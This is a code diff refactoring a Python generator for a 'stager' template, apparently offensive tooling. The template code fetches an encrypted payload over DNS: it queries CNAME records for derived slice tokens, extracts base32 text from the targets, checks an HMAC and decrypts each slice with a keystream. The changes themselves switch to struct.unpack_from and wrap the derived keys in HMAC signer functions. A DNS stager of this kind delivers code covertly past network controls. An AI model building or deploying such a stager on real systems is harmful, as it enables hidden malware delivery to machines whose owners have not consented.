@@ -83,7 +83,8 @@ def _build_query(qid, labels):
 
 # Parse DNS response and extract CNAME target labels
 def _parse_cname(msg, qid, qname_labels):
-    rid, flags, qdcount, ancount = struct.unpack("!HHHH", msg[:8])
+    msg = bytearray(msg)
+    rid, flags, qdcount, ancount = struct.unpack_from("!HHHH", msg, 0)
     if rid != (qid & 0xFFFF):
         raise ValueError("id", rid, qid & 0xFFFF)
     if not (flags & 0x8000):
@@ -99,15 +100,14 @@ def _parse_cname(msg, qid, qname_labels):
     off = 12
     _qlabels, off = _decode_name(msg, off)
     off += 4
-    expected = tuple(qname_labels)
     cname = None
     for _i in range(ancount):
         rr_name, off = _decode_name(msg, off)
-        rr_type, rr_class, _ttl, rdlen = struct.unpack("!HHIH", msg[off:off + 10])
+        rr_type, rr_class, _ttl, rdlen = struct.unpack_from("!HHIH", msg, off)
         off += 10
         rdata_off = off
         off += rdlen
-        if rr_type == 5 and rr_class == 1 and rr_name == expected:
+        if rr_type == 5 and rr_class == 1 and rr_name == qname_labels:
             cname, _ce = _decode_name(msg, rdata_off)
     if cname is None:
         raise ValueError("no_cname", ancount)
@@ -116,11 +116,11 @@ def _parse_cname(msg, qid, qname_labels):
 
 # Extract payload text from CNAME target
 def _extract_payload(cname_labels):
-    suffix = (RESPONSE_LABEL,) + tuple(DOMAIN_LABELS)
+    suffix = (RESPONSE_LABEL,) + DOMAIN_LABELS
     slen = len(suffix)
     if len(cname_labels) <= slen:
         raise ValueError("short_cname", cname_labels)
-    if tuple(cname_labels[-slen:]) != suffix:
+    if cname_labels[-slen:] != suffix:
         raise ValueError("bad_suffix", cname_labels)
     return "".join(cname_labels[:-slen])
 
@@ -142,14 +142,14 @@ def _send_query(addr, pkt):
 
 
 # Parse binary record, verify MAC, decrypt slice
-def _process_slice(ek, mk, si, payload_text):
+def _process_slice(es, ms, si, payload_text):
     record = base32_decode_no_pad(payload_text)
     ba = bytearray(record)
     if ba[0] != 0x01:
         raise ValueError("ver", ba[0])
     if ba[1] != 0x00:
         raise ValueError("rsvd", ba[1])
-    clen = struct.unpack("!H", record[2:4])[0]
+    clen = struct.unpack_from("!H", ba, 2)[0]
     if clen == 0:
         raise ValueError("zero_ct")
     if 4 + clen + 8 != len(record):
@@ -165,10 +165,10 @@ def _process_slice(ek, mk, si, payload_text):
         + encode_ascii_int(COMPRESSED_SIZE, "compressed_size") + b"|"
         + ciphertext
     )
-    em = hmac_sha256(mk, mac_msg)[:PAYLOAD_MAC_TRUNC_LEN]
+    em = ms(mac_msg)[:PAYLOAD_MAC_TRUNC_LEN]
     if not constant_time_equals(em, mac):
         raise ValueError("mac", si)
-    stream = _keystream_bytes(ek, FILE_ID, PUBLISH_VERSION, si, clen)
+    stream = _keystream_bytes(es, FILE_ID, PUBLISH_VERSION, si, clen)
     return _xor_bytes(ciphertext, stream)
 
 '''
@@ -237,8 +237,9 @@ else:
     addr = (host, port)
 if verbose:
     sys.stderr.write("resolver %s\\n" % repr(addr))
-ek = _derive_file_bound_key(psk, FILE_ID, PUBLISH_VERSION, PAYLOAD_ENC_KEY_LABEL)
-mk = _derive_file_bound_key(psk, FILE_ID, PUBLISH_VERSION, PAYLOAD_MAC_KEY_LABEL)
+es = hmac_sha256_signer(_derive_file_bound_key(psk, FILE_ID, PUBLISH_VERSION, PAYLOAD_ENC_KEY_LABEL))
+ms = hmac_sha256_signer(_derive_file_bound_key(psk, FILE_ID, PUBLISH_VERSION, PAYLOAD_MAC_KEY_LABEL))
+ss = hmac_sha256_signer(encode_ascii(MAPPING_SEED))
 _deadline = time.time() + 60
 slices = {}
 for si in range(TOTAL_SLICES):
@@ -246,13 +247,13 @@ for si in range(TOTAL_SLICES):
         if time.time() > _deadline:
             sys.exit(1)
         try:
-            qname = (_derive_slice_token(encode_ascii(MAPPING_SEED), PUBLISH_VERSION, si, SLICE_TOKEN_LEN), FILE_TAG) + tuple(DOMAIN_LABELS)
+            qname = (_derive_slice_token(ss, PUBLISH_VERSION, si, SLICE_TOKEN_LEN), FILE_TAG) + DOMAIN_LABELS
             qid = random.randint(0, 0xFFFF)
             pkt = _build_query(qid, qname)
             resp = _send_query(addr, pkt)
             cname = _parse_cname(resp, qid, qname)
             payload = _extract_payload(cname)
-            slices[si] = _process_slice(ek, mk, si, payload)
+            slices[si] = _process_slice(es, ms, si, payload)
             if verbose:
                 sys.stderr.write("[%d/%d]\\n" % (si + 1, TOTAL_SLICES))
             _deadline = time.time() + 60
@@ -302,7 +303,7 @@ def build_stager_template():
         "constant_time_equals",
     ])
     crypto = extract_functions("helpers.py", [
-        "hmac_sha256", "_derive_slice_token",
+        "hmac_sha256", "hmac_sha256_signer", "_derive_slice_token",
     ])
     crypto += extract_functions("cname_payload.py", [
         "_derive_file_bound_key", "_keystream_bytes", "_xor_bytes",